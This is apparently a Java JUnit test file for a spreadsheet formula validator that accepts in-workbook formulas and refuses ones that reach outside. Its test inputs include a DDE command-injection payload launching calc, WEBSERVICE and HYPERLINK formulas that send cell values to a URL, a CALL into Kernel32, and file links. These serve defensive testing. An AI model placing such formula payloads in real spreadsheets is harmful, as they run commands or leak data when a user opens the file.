package dev.sweepbook.ooxml;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class FormulaRulesTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "SUM(sb_latency[Decode step (ms)])",
                "sb_latency[[#This Row],[Decode step (ms)]]*2",
                "[@Model]&\" on \"&[@Hardware]",
                "INDEX('KV cache'!$F$2:$F$25,MATCH(MIN(A:A),A:A,0))",
                "\"a | b [1] WEBSERVICE(\"&A1",
                "HYPERLINK(\"#'KV cache'!A1\",\"go\")",
                "HYPERLINK(\"#\"&A1,\"go\")",
                "HYPERLINK( \"https://example.org/\" )",
                "INDIRECT(\"Latency!A\"&ROW())",
                "IMAGEREAL+CALLS+A1",
            })
    void aFormulaThatStaysInsideIsTaken(String formula) {
        assertThat(FormulaRules.refusal(formula)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            quoteCharacter = '`',
            value = {
                "cmd|'/c calc'!A1~has a formula that asks another program (DDE)",
                "[1]Data!A1+1~has a formula with an external link to [1]",
                "[Book.xlsx]Data!A1~has a formula with an external link to [Book.xlsx]",
                "SUM('C:\\x\\[Book.xlsx]Data'!A1:A9)~has a formula with an external link to 'C:\\x\\[Book.xlsx]Data'",
                "[1]!name~has a formula with an external link to [1]",
                "WEBSERVICE(\"http://a\")~has a formula with WEBSERVICE, which fetches from the web",
                "_xlfn.WEBSERVICE(A1)~has a formula with WEBSERVICE, which fetches from the web",
                "_xlfn.IMAGE(A1)~has a formula with IMAGE, which shows a remote image",
                "1+rtd(\"x\",,\"y\")~has a formula with RTD, which asks another program (RTD)",
                "CALL(\"Kernel32\",\"x\",\"J\")~has a formula with CALL, which calls a library",
                "INDIRECT(\"[\"&A1&\"]S!A1\")~has a formula with INDIRECT to another workbook, an external link",
                "HYPERLINK(\"http://a/?\"&A1)~has a formula with HYPERLINK to a place that is worked out or no web page; write a link as text, or one inside the workbook with #",
                "HYPERLINK(\"file:///c:/x\")~has a formula with HYPERLINK to a place that is worked out or no web page; write a link as text, or one inside the workbook with #",
            })
    void aFormulaThatReachesOutIsRefused(String formula, String said) {
        assertThat(FormulaRules.refusal(formula)).contains(said);
    }

    @Test
    void aFormulaLongerThanExcelTakesIsRefused() {
        assertThat(FormulaRules.refusal("1" + "+1".repeat(4_095))).isEmpty();
        assertThat(FormulaRules.refusal("1" + "+1".repeat(4_096)))
                .contains("has a formula of 8,193 characters, the limit is 8,192");
    }
}
